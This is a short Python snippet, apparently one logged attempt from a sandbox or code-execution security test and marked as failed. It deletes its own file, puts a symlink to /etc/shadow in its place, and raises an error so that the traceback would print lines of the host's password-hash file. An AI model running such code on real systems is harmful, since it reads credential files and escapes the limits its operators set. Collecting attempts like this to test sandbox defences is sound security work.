# attack: has its own traceback quote a file of the host
# status: failed
import os
os.remove(__file__); os.symlink("/etc/shadow", __file__)
raise ValueError
